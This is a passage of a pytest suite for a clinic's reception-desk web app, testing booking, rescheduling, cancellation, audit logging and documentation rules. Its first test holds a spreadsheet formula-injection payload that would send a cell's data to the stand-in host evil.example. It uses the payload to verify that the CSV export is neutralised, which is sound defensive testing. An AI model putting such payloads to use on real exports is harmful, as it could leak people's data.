def test_csv_neutralises_values_a_spreadsheet_would_run(make_doctor, make_user, make_appointment, desk):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    make_appointment(doctor_id=make_doctor(name="@Dr. At"),
                     patient_id=make_user(full_name=evil, email="evil@example.com", phone="+56 9 1234 5678"),
                     day=TOMORROW, hhmm="09:00")
    make_appointment(doctor_id=make_doctor(name="Dr. Minus"), patient_id=make_user(full_name="-2+3"),
                     day=TOMORROW, hhmm="09:00")
    rows = list(csv.reader(io.StringIO(desk.client.get(f"/desk/day.csv?date={TOMORROW}").text)))[1:]
    by_patient = {row[3]: row for row in rows}
    assert "'" + evil in by_patient
    assert by_patient["'" + evil][2] == "'@Dr. At"
    assert by_patient["'" + evil][4] == "'+56 9 1234 5678"
    assert "'-2+3" in by_patient
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row)


# ---------------------------------------------------------------------------------------------
# 5. Booking on behalf of a patient


@pytest.fixture
def patients(make_user, staff):
    ids = SimpleNamespace(
        ana=make_user(full_name="Ana Torres", email="ana@example.com", phone="+56 9 1234 5678"),
        ben=make_user(full_name="Ben Ortiz", email="ben.ortiz@example.com", phone="(2) 2765-4321"),
        underscore=make_user(full_name="Carla Diaz", email="a_a@example.com"),
        percent=make_user(full_name="Dora 100% Real", email="dora@example.com"),
    )
    staff("reception", full_name="Ana Staffer")  # staff are never patients
    return ids


def search(client, query):
    page = client.get("/desk/book", query_string={"q": query})
    assert page.status_code == 200
    return set(map(int, re.findall(r'href="/desk/book\?patient_id=(\d+)"', page.text)))


def test_find_patient_by_name_email_or_phone_digits(desk, patients):
    assert search(desk.client, "torres") == {patients.ana}
    assert search(desk.client, "ANA") == {patients.ana}  # not the receptionist Ana Staffer
    assert search(desk.client, "ben.ortiz@EXAMPLE") == {patients.ben}
    assert search(desk.client, "12345678") == {patients.ana}
    assert search(desk.client, "+56 9 1234 5678") == {patients.ana}
    assert search(desk.client, "2765 4321") == {patients.ben}
    assert search(desk.client, "nobody here") == set()


def test_find_patient_treats_like_wildcards_literally(desk, patients):
    assert search(desk.client, "a_a") == {patients.underscore}  # "_" would match "ana" as a wildcard
    assert search(desk.client, "%%") == set()  # "%" would match everyone
    assert search(desk.client, "0%") == {patients.percent}
    assert search(desk.client, "a%a") == set()


def test_no_match_invites_registering(desk, patients):
    page = desk.client.get("/desk/book?q=Zelda").text
    assert "No patient matches “Zelda”. Register them below." in page


def test_register_a_new_patient_at_the_desk(app, desk, make_doctor):
    make_doctor()
    response = desk.client.post("/desk/patients", data={"full_name": "Nina Nueva", "email": "Nina@Example.com",
                                                        "phone": "+56 9 8765 4321"})
    assert response.status_code == 303
    with app.app_context():
        nina = db.session.scalars(select(User).where(User.email == "nina@example.com")).one()
        assert (nina.role, nina.full_name, nina.phone) == ("patient", "Nina Nueva", "+56 9 8765 4321")
    assert response.headers["Location"] == f"/desk/book?patient_id={nina.id}"
    page = desk.client.get(response.headers["Location"]).text
    assert "Book for Nina Nueva" in page and "Nina Nueva is registered" in page


@pytest.mark.parametrize("form, message", [
    ({"email": "ANA@example.com"}, "Another account already uses this email address"),
    ({"phone": "call me maybe"}, "A phone number has digits, spaces and + - ( ) only"),
    ({"email": "not-an-email"}, "Enter a valid email address"),
    ({"full_name": ""}, "Enter the patient&#39;s full name."),
])
def test_registering_a_patient_refuses_bad_input(app, desk, patients, form, message):
    before = count(app, User)
    data = {"full_name": "Someone New", "email": "new@example.com", "phone": "", **form}
    response = desk.client.post("/desk/patients", data=data)
    assert response.status_code == 422
    assert message in response.text
    assert count(app, User) == before


def open_desk_booking(client, patient_id, doctor_id, day=MONDAY, type_name="consultation"):
    page = client.get("/desk/book", query_string={"patient_id": patient_id, "doctor_id": doctor_id,
                                                  "date": day.isoformat(), "type": type_name})
    assert page.status_code == 200, page.text
    return page


def open_desk_confirmation(client, patient_id, doctor_id, time, day=MONDAY, type_name="consultation"):
    """The confirmation step of a time chosen on the picker (its button sends ?time=)."""
    page = client.get("/desk/book", query_string={"patient_id": patient_id, "doctor_id": doctor_id,
                                                  "date": day.isoformat(), "type": type_name, "time": time})
    assert page.status_code == 200, page.text
    return page


def desk_form(page, patient_id, doctor_id, time, day=MONDAY, type_name="consultation", notes=""):
    return {"patient_id": patient_id, "doctor_id": doctor_id, "date": day.isoformat(), "type": type_name,
            "booking_key": booking_key(page.text), "time": time, "notes": notes}


def test_book_a_slot_for_a_patient(app, desk, patients, make_doctor, sent_mail):
    doctor_id = make_doctor()
    page = open_desk_booking(desk.client, patients.ana, doctor_id)
    assert "Book for Ana Torres" in page.text
    assert desk_slot_times(page.text)[:3] == ["09:00", "09:15", "09:30"]
    confirm = open_desk_confirmation(desk.client, patients.ana, doctor_id, "09:30")
    assert f"Book Ana Torres with Dr. Laura Rossi on {MONDAY:%A %d %B %Y} at 09:30?" in text_of(confirm.text)
    assert app_appointments(app) == []  # nothing booked before the confirmation
    response = desk.client.post("/desk/book", data=desk_form(confirm, patients.ana, doctor_id, "09:30",
                                                             notes="Prefers mornings"))
    assert response.status_code == 303
    [booked] = app_appointments(app)
    assert response.headers["Location"] == f"/desk/appointments/{booked.id}"
    assert (booked.patient_id, booked.doctor_id, booked.created_by_id) == (patients.ana, doctor_id, desk.id)
    assert booked.starts_at == instant(MONDAY, "09:30") and booked.status == SCHEDULED
    detail = desk.client.get(response.headers["Location"]).text
    assert "Booked for Ana Torres; they have been emailed the details." in detail
    [message] = sent_mail()
    assert message["To"] == "ana@example.com"
    assert subject(message).startswith("Your appointment is booked")
    assert "METHOD:REQUEST" in calendar_text(message)
    assert "Prefers mornings" not in everything_in(message)
    # The time is taken now, on the desk's page and on the patients' booking page.
    assert "09:30" not in desk_slot_times(open_desk_booking(desk.client, patients.ben, doctor_id).text)
    assert "09:30" not in patient_slot_times(desk.client.get(f"/doctors/{doctor_id}?date={MONDAY}").text)


def app_appointments(app):
    with app.app_context():
        rows = db.session.scalars(select(Appointment).order_by(Appointment.id)).all()
        for row in rows:
            db.session.expunge(row)
        return rows


def test_slot_taken_meanwhile_says_so_and_books_nothing(
        app, desk, patients, make_doctor, make_appointment, sent_mail):
    doctor_id = make_doctor()
    page = open_desk_confirmation(desk.client, patients.ana, doctor_id, "10:15")
    make_appointment(doctor_id=doctor_id, patient_id=patients.ben, day=MONDAY, hhmm="10:00")  # someone was faster
    response = desk.client.post("/desk/book", data=desk_form(page, patients.ana, doctor_id, "10:15"))
    assert response.status_code == 303
    assert f"patient_id={patients.ana}" in response.headers["Location"]
    again = desk.client.get(response.headers["Location"]).text
    assert flashes(again) == ["Time slot overlaps with another booking"]
    assert "10:15" not in desk_slot_times(again) and "10:30" in desk_slot_times(again)
    assert [a.patient_id for a in app_appointments(app)] == [patients.ben]
    assert sent_mail() == []


def test_double_submitted_desk_form_books_once(app, desk, patients, make_doctor, sent_mail):
    doctor_id = make_doctor()
    page = open_desk_confirmation(desk.client, patients.ana, doctor_id, "11:00")
    form = desk_form(page, patients.ana, doctor_id, "11:00")
    first = desk.client.post("/desk/book", data=form)
    second = desk.client.post("/desk/book", data=form)
    assert first.status_code == second.status_code == 303
    assert first.headers["Location"] == second.headers["Location"]
    assert len(app_appointments(app)) == 1
    assert len(sent_mail()) == 1


def test_booking_for_a_staff_account_is_refused(app, desk, staff, make_doctor):
    doctor_id = make_doctor()
    other_staff = staff("doctor")
    assert desk.client.get(f"/desk/book?patient_id={other_staff}").status_code == 400
    response = desk.client.post("/desk/book", data={"patient_id": other_staff, "doctor_id": doctor_id,
                                                    "date": MONDAY.isoformat(), "type": "consultation",
                                                    "booking_key": "k" * 24, "time": "09:00"})
    assert response.status_code == 303
    assert app_appointments(app) == []


# ---------------------------------------------------------------------------------------------
# 6. Cancel and reschedule from the desk


@pytest.fixture
def booked(make_doctor, make_user, make_appointment):
    """Next Monday 10:00-10:30 with Dr. Rossi for Ana; Dr. Bianchi works the same hours."""
    rossi = make_doctor(name="Dr. Laura Rossi")
    bianchi = make_doctor(name="Dr. Marco Bianchi", specialty="Pediatrics")
    ana = make_user(full_name="Ana Torres", email="ana@example.com")
    appointment = make_appointment(doctor_id=rossi, patient_id=ana, day=MONDAY, hhmm="10:00")
    return SimpleNamespace(rossi=rossi, bianchi=bianchi, ana=ana, id=appointment)


@pytest.mark.parametrize("reason, message", [("", "Choose a reason."), ("   ", "Choose a reason."),
                                             ("Doctor is ill", "Not a valid choice")])
def test_cancel_needs_a_reason(app, desk, booked, sent_mail, reason, message):
    response = desk.client.post(f"/desk/appointments/{booked.id}/cancel", data={"reason": reason})
    assert response.status_code == 422
    assert message in response.text
    assert get(app, Appointment, booked.id).status == SCHEDULED
    assert sent_mail() == [] and history(app, booked.id) == []


def test_cancel_emails_the_patient_and_frees_the_slot(app, desk, booked, sent_mail):
    assert "10:00" not in patient_slot_times(desk.client.get(f"/doctors/{booked.rossi}?date={MONDAY}").text)
    confirm = desk.client.get(f"/desk/appointments/{booked.id}/cancel")
    assert confirm.status_code == 200 and "Cancel this appointment?" in confirm.text
    response = desk.client.post(f"/desk/appointments/{booked.id}/cancel",
                                data={"reason": "doctor_unavailable", "note": "Doctor is ill"})
    assert response.status_code == 303
    assert response.headers["Location"] == f"/desk/appointments/{booked.id}"
    cancelled = get(app, Appointment, booked.id)
    expected = (CANCELLED, "Doctor is ill", desk.id)
    assert (cancelled.status, cancelled.cancel_reason, cancelled.cancelled_by_id) == expected
    [message] = sent_mail()
    assert message["To"] == "ana@example.com"
    assert subject(message).startswith("Your appointment is cancelled")
    ics = calendar_text(message)
    assert "METHOD:CANCEL" in ics and "SEQUENCE:1" in ics
    assert "Doctor is ill" not in everything_in(message)  # the reason stays inside the clinic
    assert "10:00" in patient_slot_times(desk.client.get(f"/doctors/{booked.rossi}?date={MONDAY}").text)
    assert history(app, booked.id) == [("cancelled", SCHEDULED, CANCELLED, "Doctor unavailable: Doctor is ill",
                                        desk.id)]
    # Cancelling twice is refused.
    again = desk.client.post(f"/desk/appointments/{booked.id}/cancel", data={"reason": "other"})
    assert again.status_code == 422 and "Only scheduled or arrived appointments can be cancelled" in again.text
    assert len(sent_mail()) == 1
    # An old link to its cancel or move page (a tab left open) leads to the visit's page, saying
    # why, not to a form that can only fail.
    for action, refused in (("cancel", "Only scheduled or arrived appointments can be cancelled"),
                            ("reschedule", "Only scheduled appointments can be rescheduled"),
                            ("reschedule?date={MONDAY}&time=11:00&doctor_id={booked.rossi}",
                             "Only scheduled appointments can be rescheduled")):
        stale = desk.client.get(f"/desk/appointments/{booked.id}/" + action.format(MONDAY=MONDAY, booked=booked))
        assert stale.status_code == 303 and stale.headers["Location"] == f"/desk/appointments/{booked.id}"
        assert flashes(desk.client.get(stale.headers["Location"]).text) == [refused]
    # The move picker's htmx requests in that tab send the whole tab there, not the page into the picker.
    swap = desk.client.get(f"/desk/appointments/{booked.id}/reschedule?date={MONDAY}", headers={"HX-Request": "true"})
    assert (swap.status_code, swap.text) == (200, "")
    assert swap.headers["HX-Redirect"] == f"/desk/appointments/{booked.id}"


def reschedule(client, appointment_id, *, doctor_id, time, reason="Patient asked", day=MONDAY):
    return client.post(f"/desk/appointments/{appointment_id}/reschedule",
                       data={"doctor_id": doctor_id, "date": day.isoformat(), "time": time, "reason": reason})


def test_reschedule_needs_a_reason(app, desk, booked, sent_mail):
    response = reschedule(desk.client, booked.id, doctor_id=booked.rossi, time="11:00", reason="")
    assert response.status_code == 422
    assert "Give a reason." in response.text
    assert get(app, Appointment, booked.id).starts_at == instant(MONDAY, "10:00")
    assert sent_mail() == []


def test_reschedule_page_offers_the_free_times_around_its_own(desk, booked, make_user, make_appointment):
    make_appointment(doctor_id=booked.rossi, patient_id=make_user(), day=MONDAY, hhmm="11:00")
    page = desk.client.get(f"/desk/appointments/{booked.id}/reschedule")
    assert page.status_code == 200
    times = desk_slot_times(page.text)
    assert "10:15" in times and "10:00" not in times  # its own time is free for others, not offered
    assert "11:00" not in times and "10:45" not in times
    other = desk.client.get(f"/desk/appointments/{booked.id}/reschedule?doctor_id={booked.bianchi}&date={MONDAY}")
    assert "11:00" in desk_slot_times(other.text)


def test_a_day_whose_only_free_time_is_the_visits_own_leads_to_the_next_free_time(desk, booked, make_block):
    for start, end in (("00:00", "10:00"), ("10:30", "23:45")):  # the doctor away but for the visit
        make_block(doctor_id=booked.rossi, start=instant(MONDAY, start), end=instant(MONDAY, end), reason="Course")
    page = text_of(desk.client.get(f"/desk/appointments/{booked.id}/reschedule").text)
    assert desk_slot_times(page) == [] and "Dr. Laura Rossi is fully booked on this day." in page
    tuesday = MONDAY + timedelta(days=1)
    assert f"Next free time with Dr. Laura Rossi: Tue {tuesday:%d %b %Y}, 09:00" in page
    assert "has no free time after this day" not in page


def test_the_move_pickers_next_free_time_counts_the_visits_own_time_free(desk, booked, make_block,
                                                                         make_appointment):
    """A Tuesday 09:00 visit, moved from a Monday the doctor is away: 09:15 overlaps only the visit itself."""
    tuesday = MONDAY + timedelta(days=1)
    visit = make_appointment(doctor_id=booked.rossi, patient_id=booked.ana, day=tuesday, hhmm="09:00")
    make_block(doctor_id=booked.rossi, start=instant(MONDAY, "00:00"), end=instant(tuesday, "00:00"), reason="Away")
    page = text_of(desk.client.get(f"/desk/appointments/{visit}/reschedule?date={MONDAY}").text)
    assert f"Next free time with Dr. Laura Rossi: Tue {tuesday:%d %b %Y}, 09:15" in page


def test_reschedule_to_a_free_time_moves_and_emails(app, desk, booked, sent_mail):
    response = reschedule(desk.client, booked.id, doctor_id=booked.rossi, time="15:00", reason="Clashes with work")
    assert response.status_code == 303
    moved = get(app, Appointment, booked.id)
    assert (moved.starts_at, moved.ends_at) == (instant(MONDAY, "15:00"), instant(MONDAY, "15:30"))
    assert moved.sequence == 1
    [(kind, before, after, reason, actor)] = history(app, booked.id)
    assert (kind, reason, actor) == ("rescheduled", "Clashes with work", desk.id)
    assert "10:00" in before and "15:00" in after
    [message] = sent_mail()
    assert message["To"] == "ana@example.com"
    assert subject(message).startswith("Your appointment has been moved")
    ics = calendar_text(message)
    assert "METHOD:REQUEST" in ics and "SEQUENCE:1" in ics
    assert "Clashes with work" not in everything_in(message)
    detail = desk.client.get(response.headers["Location"]).text
    assert "Clashes with work" in detail and "Moved:" in detail
    # The old time is free again, the new one taken.
    times = patient_slot_times(desk.client.get(f"/doctors/{booked.rossi}?date={MONDAY}").text)
    assert "10:00" in times and "15:00" not in times


def test_reschedule_to_the_time_and_doctor_it_has_changes_nothing_and_says_so(app, desk, booked, sent_mail):
    response = reschedule(desk.client, booked.id, doctor_id=booked.rossi, time="10:00")
    assert response.status_code == 303
    assert get(app, Appointment, booked.id).sequence == 0 and history(app, booked.id) == []
    assert sent_mail() == []
    detail = desk.client.get(response.headers["Location"]).text
    assert "the appointment&#39;s time and doctor: nothing has changed." in detail
    assert "emailed the new time" not in detail


def test_reschedule_to_another_doctor(app, desk, booked, sent_mail):
    assert reschedule(desk.client, booked.id, doctor_id=booked.bianchi, time="10:00").status_code == 303
    moved = get(app, Appointment, booked.id)
    assert (moved.doctor_id, moved.starts_at, moved.sequence) == (booked.bianchi, instant(MONDAY, "10:00"), 1)
    assert "Dr. Marco Bianchi" in subject(sent_mail()[0])
    assert "Ana Torres" in desk.client.get(f"/desk/?date={MONDAY}&doctor_id={booked.bianchi}").text
    assert "Ana Torres" not in desk.client.get(f"/desk/?date={MONDAY}&doctor_id={booked.rossi}").text


def test_a_doctor_moves_their_visit_within_their_own_calendar(app, login_as, make_doctor, make_user,
                                                              make_appointment, sent_mail):
    rossi = make_doctor(name="Dr. Laura Rossi", with_user=True)
    bianchi = make_doctor(name="Dr. Marco Bianchi", with_user=True)
    visit = make_appointment(doctor_id=rossi, patient_id=make_user(email="ana@example.com"), day=MONDAY,
                             hhmm="10:00")
    client = login_as(doctor_user(app, rossi))
    picker = client.get(f"/desk/appointments/{visit}/reschedule").text
    assert "Dr. Laura Rossi" in picker and "Dr. Marco Bianchi" not in picker  # the picker offers her own
    refused = reschedule(client, visit, doctor_id=bianchi, time="11:00")
    assert refused.status_code == 422
    assert "A doctor moves a visit within their own calendar only" in refused.text
    assert "Doctor not found" not in refused.text
    assert get(app, Appointment, visit).doctor_id == rossi and sent_mail() == []
    assert reschedule(client, visit, doctor_id=rossi, time="11:00").status_code == 303


def test_reschedule_onto_another_booking_is_refused(app, desk, booked, make_user, make_appointment, sent_mail):
    make_appointment(doctor_id=booked.rossi, patient_id=make_user(), day=MONDAY, hhmm="11:00")
    make_appointment(doctor_id=booked.bianchi, patient_id=make_user(), day=MONDAY, hhmm="09:00", duration=60)
    for doctor_id, time in ((booked.rossi, "10:45"), (booked.rossi, "11:00"), (booked.bianchi, "09:45")):
        response = reschedule(desk.client, booked.id, doctor_id=doctor_id, time=time)
        assert response.status_code == 422
        assert "Time slot overlaps with another booking" in response.text
    unchanged = get(app, Appointment, booked.id)
    assert (unchanged.doctor_id, unchanged.starts_at, unchanged.sequence) == (booked.rossi, instant(MONDAY, "10:00"), 0)
    assert sent_mail() == [] and history(app, booked.id) == []


def test_reschedule_15_minutes_later_overlapping_its_own_old_time(app, desk, booked, sent_mail):
    assert reschedule(desk.client, booked.id, doctor_id=booked.rossi, time="10:15").status_code == 303
    assert get(app, Appointment, booked.id).starts_at == instant(MONDAY, "10:15")
    assert len(sent_mail()) == 1
    # And back again.
    assert reschedule(desk.client, booked.id, doctor_id=booked.rossi, time="10:00").status_code == 303
    moved = get(app, Appointment, booked.id)
    assert (moved.starts_at, moved.sequence) == (instant(MONDAY, "10:00"), 2)
    assert "SEQUENCE:2" in calendar_text(sent_mail()[-1])


@pytest.mark.parametrize("time, message", [
    ("08:00", "Outside doctor availability"),
    ("10:10", "Outside doctor availability"),
    ("25:00", "Invalid time format (HH:MM)"),
])
def test_reschedule_outside_the_rules_is_refused(app, desk, booked, time, message):
    response = reschedule(desk.client, booked.id, doctor_id=booked.rossi, time=time)
    assert response.status_code == 422 and message in response.text
    assert get(app, Appointment, booked.id).starts_at == instant(MONDAY, "10:00")


# ---------------------------------------------------------------------------------------------
# 7. The audit trail


def access_events(app):
    with app.app_context():
        return [(e.actor_id, e.action, e.patient_id, e.appointment_id, e.detail)
                for e in db.session.scalars(select(AccessEvent).order_by(AccessEvent.id))]


def test_opening_patient_data_is_recorded(app, make_doctor, make_user, make_appointment, login_as, staff):
    doctor_id = make_doctor(with_user=True)
    patient_id = make_user(full_name="Ana Torres")
    appointment_id = make_appointment(doctor_id=doctor_id, patient_id=patient_id, day=YESTERDAY, hhmm="09:00")
    desk_id = staff("reception")
    desk_client, doctor_client = login_as(desk_id), login_as(doctor_user(app, doctor_id))

    assert desk_client.get(f"/desk/appointments/{appointment_id}").status_code == 200
    assert doctor_client.get(f"/desk/appointments/{appointment_id}/documentation").status_code == 200
    assert desk_client.get(f"/desk/?date={YESTERDAY}").status_code == 200
    assert desk_client.get(f"/desk/day.csv?date={YESTERDAY}").status_code == 200
    assert access_events(app) == [
        (desk_id, "viewed appointment", patient_id, appointment_id, None),
        (doctor_user(app, doctor_id), "opened documentation", patient_id, appointment_id, None),
        (desk_id, "viewed day list", None, None, YESTERDAY.isoformat()),
        (desk_id, "exported day list", None, None, YESTERDAY.isoformat()),
    ]
    with app.app_context():
        assert all(e.at is not None for e in db.session.scalars(select(AccessEvent)))


def test_the_30_second_refresh_is_not_a_new_view(app, desk, visit):
    desk.client.get(f"/desk/?date={YESTERDAY}")
    assert len(access_events(app)) == 1
    for _ in range(3):
        assert desk.client.get(f"/desk/?date={YESTERDAY}", headers=HTMX).status_code == 200
    assert len(access_events(app)) == 1


def test_refused_pages_record_nothing(app, make_doctor, make_user, make_appointment, login_as):
    theirs = make_appointment(doctor_id=make_doctor(name="Dr. B"), patient_id=make_user(), day=YESTERDAY, hhmm="09:00")
    client = login_as(doctor_user(app, make_doctor(with_user=True)))
    assert client.get(f"/desk/appointments/{theirs}").status_code == 404
    assert client.get(f"/desk/appointments/{theirs}/documentation").status_code == 404
    assert access_events(app) == []


# ---------------------------------------------------------------------------------------------
# 8. Pending documentation


@pytest.fixture
def pending_world(app, make_doctor, make_user, make_appointment):
    rossi = make_doctor(name="Dr. Laura Rossi", with_user=True)
    bianchi = make_doctor(name="Dr. Marco Bianchi", with_user=True)
    patient = make_user(full_name="Ana Torres", email="ana@example.com")
    two_days_ago = TODAY - timedelta(days=2)
    ids = SimpleNamespace(rossi=rossi, bianchi=bianchi, patient=patient)
    ids.yesterday = make_appointment(doctor_id=rossi, patient_id=patient, day=YESTERDAY, hhmm="09:00")
    ids.oldest = make_appointment(doctor_id=rossi, patient_id=patient, day=two_days_ago, hhmm="15:00", status=ARRIVED)
    ids.completed = make_appointment(doctor_id=rossi, patient_id=patient, day=YESTERDAY, hhmm="10:00",
                                     status=COMPLETED)
    ids.bianchis = make_appointment(doctor_id=bianchi, patient_id=patient, day=YESTERDAY, hhmm="08:00")
    # Not pending: cancelled, no-show, already documented, not started yet.
    ids.cancelled = make_appointment(doctor_id=rossi, patient_id=patient, day=YESTERDAY, hhmm="11:00",
                                     status=CANCELLED)
    ids.no_show = make_appointment(doctor_id=rossi, patient_id=patient, day=YESTERDAY, hhmm="12:00", status=NO_SHOW)
    ids.documented = make_appointment(doctor_id=rossi, patient_id=patient, day=YESTERDAY, hhmm="14:00",
                                      status=COMPLETED)
    ids.future = make_appointment(doctor_id=rossi, patient_id=patient, day=MONDAY, hhmm="09:00")
    with app.app_context():
        documented = db.session.get(Appointment, ids.documented)
        documented.documentation, documented.documented_at = "Done already", instant(YESTERDAY, "15:00")
        db.session.commit()
    return ids


def listed_ids(html):
    """Appointment ids of the pending list, in page order."""
    table = html.split("<tbody>")[1].split("</tbody>")[0] if "<tbody>" in html else ""
    return [int(i) for i in re.findall(r'href="/desk/appointments/(\d+)(?:/documentation)?"', table)]


def test_reception_sees_everyones_pending_documentation_oldest_first(app, desk, pending_world):
    w = pending_world
    page = desk.client.get("/desk/pending-documentation").text
    assert listed_ids(page) == [w.oldest, w.bianchis, w.yesterday, w.completed]
    assert "Pending documentation <small>(4)</small>" in page
    only_bianchi = desk.client.get(f"/desk/pending-documentation?doctor_id={w.bianchi}").text
    assert listed_ids(only_bianchi) == [w.bianchis]


def test_pending_documentation_matches_the_api(app, client, desk, pending_world):
    with app.app_context():
        token = tokens.create_api_token(db.session.get(User, desk.id), name="tests", now=clinic.now())
    api = client.get("/v1/clinic/appointments/pending_documentation", headers={"X-User-Token": token})
    assert api.status_code == 200
    assert [row["id"] for row in api.get_json()] == listed_ids(desk.client.get("/desk/pending-documentation").text)


def test_a_doctor_sees_and_clears_their_own_pending_documentation(app, login_as, pending_world, sent_mail):
    w = pending_world
    client = login_as(doctor_user(app, w.rossi))
    page = client.get("/desk/pending-documentation").text
    assert listed_ids(page) == [w.oldest, w.yesterday, w.completed]
    assert f'href="/desk/appointments/{w.oldest}/documentation"' in page
    assert 'id="doctor_id"' not in page  # nothing to filter: one doctor
    response = client.post(f"/desk/appointments/{w.oldest}/documentation",
                           data={"text": "Sprained ankle; rest and ice."})
    assert response.status_code == 303 and response.headers["Location"] == "/desk/pending-documentation"
    after = client.get(response.headers["Location"]).text
    assert "Documentation saved." in after
    assert listed_ids(after) == [w.yesterday, w.completed]
    saved = get(app, Appointment, w.oldest)
    assert saved.documentation == "Sprained ankle; rest and ice."
    assert saved.documented_by_id == doctor_user(app, w.rossi) and saved.documented_at is not None
    # The form opens with what was written, to edit it.
    assert "Sprained ankle; rest and ice." in client.get(f"/desk/appointments/{w.oldest}/documentation").text


@pytest.mark.parametrize("text", ["", "   \n  "])
def test_empty_documentation_is_refused(app, login_as, pending_world, text):
    client = login_as(doctor_user(app, pending_world.rossi))
    response = client.post(f"/desk/appointments/{pending_world.yesterday}/documentation", data={"text": text})
    assert response.status_code == 422
    assert "Write the documentation first." in response.text
    assert get(app, Appointment, pending_world.yesterday).documentation is None


@pytest.mark.parametrize("which, message", [
    ("future", "A visit can be documented once it has started"),
    ("cancelled", "A cancelled or missed appointment has no visit to document"),
    ("no_show", "A cancelled or missed appointment has no visit to document"),
])
def test_documentation_of_a_visit_that_did_not_happen_is_refused(app, login_as, pending_world, which, message):
    appointment_id = getattr(pending_world, which)
    client = login_as(doctor_user(app, pending_world.rossi))
    response = client.post(f"/desk/appointments/{appointment_id}/documentation", data={"text": "Seen."})
    assert response.status_code == 422 and message in response.text
    assert get(app, Appointment, appointment_id).documentation is None


def test_documentation_is_never_emailed(app, desk, login_as, pending_world, sent_mail):
    secret = "Diagnosis: secret rash on left arm"
    doctor = login_as(doctor_user(app, pending_world.rossi))
    assert doctor.post(f"/desk/appointments/{pending_world.oldest}/documentation",
                       data={"text": secret}).status_code == 303
    assert sent_mail() == []  # documenting sends nothing
    # A documented visit can no longer be cancelled (lifecycle), so no later email can carry it either.
    refused = desk.client.post(f"/desk/appointments/{pending_world.oldest}/cancel", data={"reason": "other"})
    assert refused.status_code == 422 and "A documented visit cannot be cancelled" in refused.text
    assert get(app, Appointment, pending_world.oldest).status != CANCELLED
    assert sent_mail() == []
    with app.app_context():
        for row in db.session.scalars(select(OutboxEmail)):
            assert "secret rash" not in f"{row.subject}{row.text_body}{row.html_body}{row.ics or ''}"


def test_the_detail_page_offers_documentation_only_to_the_own_doctor(app, desk, login_as, pending_world):
    w = pending_world
    doctor = login_as(doctor_user(app, w.rossi))
    assert "Write documentation" in doctor.get(f"/desk/appointments/{w.yesterday}").text
    assert "Write documentation" not in doctor.get(f"/desk/appointments/{w.future}").text  # not started
    assert "Write documentation" not in desk.client.get(f"/desk/appointments/{w.yesterday}").text


# ---------------------------------------------------------------------------------------------
# 10. A fixed number of queries, whatever the size of the day


def fill_day(app, doctor_ids, patient_ids, day, per_doctor, *, with_history=False):
    """`per_doctor` back-to-back 15-minute appointments per doctor from 08:00, bulk-inserted; at any
    one time each doctor sees another patient (a patient is in one place at a time)."""
    with app.app_context():
        rows = []
        for d, doctor_id in enumerate(doctor_ids):
            for n in range(per_doctor):
                start = instant(day, "08:00") + timedelta(minutes=15 * n)
                rows.append(Appointment(
                    patient_id=patient_ids[(d + n * len(doctor_ids)) % len(patient_ids)], doctor_id=doctor_id,
                    starts_at=start, ends_at=start + timedelta(minutes=15), duration_minutes=15,
                    appointment_type="follow_up", status=(SCHEDULED, ARRIVED, COMPLETED)[n % 3], notes="",
                ))
        db.session.add_all(rows)
        db.session.flush()
        if with_history:
            db.session.add_all([AppointmentChange(appointment_id=a.id, kind="status", from_value=SCHEDULED,
                                                  to_value=a.status) for a in rows if a.status != SCHEDULED])
        db.session.commit()
        return len(rows)


def test_busy_day_list_runs_as_many_queries_as_a_quiet_one(app, desk, make_doctor, make_user, count_queries):
    doctors = [make_doctor(name=f"Dr. Number {n:02d}") for n in range(20)]
    with app.app_context():
        patients = [User(email=f"p{n}@example.com", full_name=f"Patient {n}", role="patient", password_hash="x")
                    for n in range(100)]
        db.session.add_all(patients)
        db.session.commit()
        patient_ids = [p.id for p in patients]
    quiet, busy = next_weekday(1, weeks=1), next_weekday(2, weeks=1)
    assert fill_day(app, doctors, patient_ids, quiet, 1, with_history=True) == 20
    assert fill_day(app, doctors, patient_ids, busy, 25, with_history=True) == 500

    def measure(day):
        """(queries of the page, the htmx partial, the CSV), rows on the page, rows in the CSV."""
        responses = []

        def fetch(url, **kwargs):
            return count_queries(lambda: responses.append(desk.client.get(url, **kwargs)))

        counts = (fetch(f"/desk/?date={day}"), fetch(f"/desk/?date={day}", headers=HTMX),
                  fetch(f"/desk/day.csv?date={day}"))
        page, _partial, export = responses
        assert [r.status_code for r in responses] == [200, 200, 200]
        return counts, len(day_rows(page.text)), export.text.count("\n") - 1

    quiet_counts, quiet_rows, quiet_csv = measure(quiet)
    busy_counts, busy_rows, busy_csv = measure(busy)
    assert (quiet_rows, quiet_csv, busy_rows, busy_csv) == (20, 20, 500, 500)
    assert busy_counts == quiet_counts
    assert max(busy_counts) <= 10


def test_pending_documentation_and_history_run_a_fixed_number_of_queries(app, desk, make_doctor, make_user,
                                                                         staff, count_queries):
    doctors = [make_doctor(name=f"Dr. Number {n:02d}") for n in range(3)]
    patient_ids = [make_user(full_name=f"Patient {n}") for n in range(3)]
    last_week = TODAY - timedelta(days=7)
    fill_day(app, doctors, patient_ids, last_week, 2)

    def pending():
        page = []
        queries = count_queries(lambda: page.append(desk.client.get("/desk/pending-documentation")))
        return queries, len(listed_ids(page[0].text))

    small_queries, small_rows = pending()
    fill_day(app, doctors, patient_ids, last_week - timedelta(days=1), 40)
    assert pending() == (small_queries, small_rows + 120)

    actors = [staff("reception") for _ in range(3)]
    with app.app_context():
        first = db.session.scalars(select(Appointment).order_by(Appointment.id)).first()

    def add_history(changes):
        with app.app_context():
            db.session.add_all([AppointmentChange(appointment_id=first.id, actor_id=actors[n % 3], kind="status",
                                                  from_value=SCHEDULED, to_value=ARRIVED) for n in range(changes)])
            db.session.commit()

    def detail():
        page = []
        queries = count_queries(lambda: page.append(desk.client.get(f"/desk/appointments/{first.id}")))
        return queries, page[0].text.count("Status: scheduled → arrived")

    add_history(2)
    short_queries, _ = detail()
    add_history(40)
    assert detail() == (short_queries, 42)


# ---------------------------------------------------------------------------------------------
# Why not? The explainer on the desk's slot pickers


def test_why_not_explains_a_time_the_picker_does_not_offer(app, desk, make_doctor, make_user, make_appointment,
                                                           make_block):
    doctor_id = make_doctor(name="Dr. Laura Rossi")
    patient_id = make_user(full_name="Ana Torres")
    make_appointment(doctor_id=doctor_id, patient_id=make_user(full_name="Ben Ortiz", email="ben@example.com"),
                     day=MONDAY, hhmm="10:00")
    make_block(doctor_id=doctor_id, start=instant(MONDAY, "10:00"), end=instant(MONDAY, "11:00"), reason="Training")
